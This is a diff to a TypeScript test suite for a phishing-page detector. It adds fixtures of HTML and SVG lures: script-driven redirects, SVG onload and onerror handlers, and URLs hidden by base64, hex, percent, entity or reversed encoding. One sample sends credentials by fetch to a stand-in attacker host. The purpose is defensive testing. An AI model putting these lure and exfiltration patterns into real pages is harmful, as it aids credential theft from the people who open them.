@@ -130,12 +130,48 @@ test('phishPageSign: a password field, decoded hidden content, HTML smuggling, a
   assert.equal(sign(`<html><script>document.write(atob("${encoded(LOGIN_PAGE)}"))</script></html>`), 'a web page that decodes hidden content', 'the form hidden in base64');
   assert.equal(sign(`<html><script>document.write(atob("${encoded('<p>Remittance advice for your account</p>')}"))</script></html>`), 'a web page that decodes hidden content');
   assert.equal(sign(`<html><script>document.write(unescape('${'%3C%70%3E'.repeat(60)}'))</script></html>`), 'a web page that decodes hidden content');
+  assert.equal(sign('<html><script>eval(atob("ZG9jdW1lbnQuYm9keS5pbm5lckhUTUwgPSB4"))</script></html>'), 'a web page that decodes hidden content', 'short code, run');
+  assert.equal(sign('<html><body><script type="text/javascript" src="data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUoeCk="></script></body></html>'), 'a web page that decodes hidden content', 'a script in a data: address');
   assert.equal(sign('<html><body><script>const b = new Blob([bytes], {type: "application/octet-stream"}); const a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "Invoice.iso"; a.click();</script></body></html>'),
     'a web page that builds a file to save (HTML smuggling)');
   assert.equal(sign('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/?u=carol@example.com"></head><body>Loading…</body></html>'), 'a web page that sends the reader on to a web site');
-  assert.equal(sign('<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href = "https://evil.example/#carol@example.com"</script></svg>'), 'a web page that sends the reader on to a web site');
+  assert.equal(sign('<html><body><p>Loading</p><script>window.location.href = "https://evil.example/#carol@example.com"</script></body></html>'), 'a web page that sends the reader on to a web site');
+  assert.equal(sign('<html><body><div id="app"></div><script src="https://cdn.evil.example/kit.js"></script></body></html>'), 'a web page with nothing to read that loads its content from the web');
+  assert.equal(sign('<html><body><iframe src="//evil.example/login" style="width:100%;height:100%;border:0"></iframe></body></html>'), 'a web page with nothing to read that loads its content from the web');
   // an .mht is MIME with quoted-printable HTML
   assert.equal(sign('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<input type=3D"pass=\r\nword">\r\n--b--\r\n', true), 'a web page that asks for a password');
+});
+
+test('phishPageSign: an SVG picture that runs a script, however it starts it', () => {
+  const sign = (svg: string) => phishPageSign(Buffer.from(svg));
+  const SVG_OPEN = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: Adobe Illustrator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"';
+  for (const code of [
+    '><rect width="100" height="100"/><script type="text/ecmascript"><![CDATA[ var e = "carol@example.com"; window.location = "https://" + "evil.example/?" + e; ]]></script></svg>',
+    ' onload="top.location=\'https://evil.example\'"><rect width="100" height="100"/></svg>',
+    '><a href=" javascript:void(document.body.innerHTML=1)"><text y="20">Open the fax</text></a></svg>',
+    '><image href="x.png" width="1" height="1" ONERROR = "eval(name)"/></svg>',
+  ]) assert.equal(sign(SVG_OPEN + code), 'an SVG picture that runs a script', code);
+  // a drawing exported with HTML labels, links to the web, CSS: a picture, nothing more
+  assert.equal(sign(`${SVG_OPEN}><style>.label{font:12px sans-serif}</style><foreignObject width="80" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Decision?</div></foreignObject>
+    <a href="https://www.example.org/docs"><text y="50" class="label">Documentation</text></a><path d="M0 0L10 10" fill="none" stroke="black"/></svg>`), null);
+  // an HTML page with a drawing and scripts is a page, judged as one
+  assert.equal(sign(`<html><body>${'<p>Quarterly figures of the sales team, by region and product line. </p>'.repeat(6)}<svg><rect onclick="show(1)" width="9" height="9"/></svg><script>function show(n) {}</script></body></html>`), null);
+});
+
+test('phishPageSign: a web address written so that a scanner cannot read it', () => {
+  const sign = (html: string) => phishPageSign(Buffer.from(html));
+  const HIDES = 'a web page that hides a web address';
+  const document = '<p>Please review the attached remittance advice and confirm receipt with your account details. </p>'.repeat(5);
+  assert.equal(sign(`<html><body>${document}<script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=") + "#carol@example.com"</script></body></html>`), HIDES, 'base64, even below a page of text');
+  assert.equal(sign('<html><script>fetch(atob("aHR0cDovL2V2aWwuZXhhbXBsZS9wb3N0"), {method: "POST", body: creds})</script></html>'), HIDES, 'http:// in base64: where the password goes');
+  assert.equal(sign('<html><script>location.replace("\\x68\\x74\\x74\\x70\\x73\\x3a//evil.example")</script></html>'), HIDES, 'hex escapes');
+  assert.equal(sign('<html><script>location = unescape("%68%74%74%70%73%3A%2F%2Fevil.example")</script></html>'), HIDES, 'percent escapes');
+  assert.equal(sign('<html><a href="&#104;&#116;&#116;&#112;&#115;://evil.example">Open</a></html>'), HIDES, 'character references');
+  assert.equal(sign('<html><script>location.href = "elpmaxe.live//:sptth".split("").reverse().join("")</script></html>'), HIDES, 'reversed');
+  assert.equal(sign('<html><body><a href="https://www.example.org/">aHR0 is base64 for htt</a><img src="data:image/png;base64,iVBORw0KGgo="></body></html>'), null);
+  const logo = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>').toString('base64');
+  assert.ok(logo.includes('aHR0cDovL'), 'the xmlns is "http://" in base64');
+  assert.equal(sign(`<html><body>${document}<img src="data:image/svg+xml;base64,${logo}"></body></html>`), null, 'a picture in a data: URI');
 });
 
 test('phishPageSign: a page of unclosed tags is read in linear time (backtracking over them took 47 s)', { timeout: 20_000 }, () => {
@@ -150,6 +186,9 @@ test('phishPageSign: honest pages say nothing: an HTML invoice, a search form, a
   assert.equal(sign('<html><script>const cfg = JSON.parse(atob("eyJhIjoxfQ==")); const d = new Blob([x]);</script></html>'), null);
   const article = `<html><head><script>if (old) window.location.href = "https://example.org/new"</script></head><body>${'<p>A long article that people read and forward to colleagues. </p>'.repeat(10)}</body></html>`;
   assert.equal(sign(article), null, 'a page with text to read is not a bare redirect');
+  const report = `<html><head><script src="https://cdn.plot.example/plotly.min.js"></script></head><body><h1>Monthly report</h1>${'<p>Revenue grew in every region; the chart below shows the figures by month and product. </p>'.repeat(4)}<div id="chart"></div></body></html>`;
+  assert.equal(sign(report), null, 'a report that draws its chart with a script from the web has text to read');
+  assert.equal(sign('<html><script src="js/app.js"></script><div id="app"></div></html>'), null, 'a script beside the page is no sign');
 });
 
 test('inspectAttachments: attached web pages by name, Content-Type or first bytes, also inside ZIP archives', async () => {
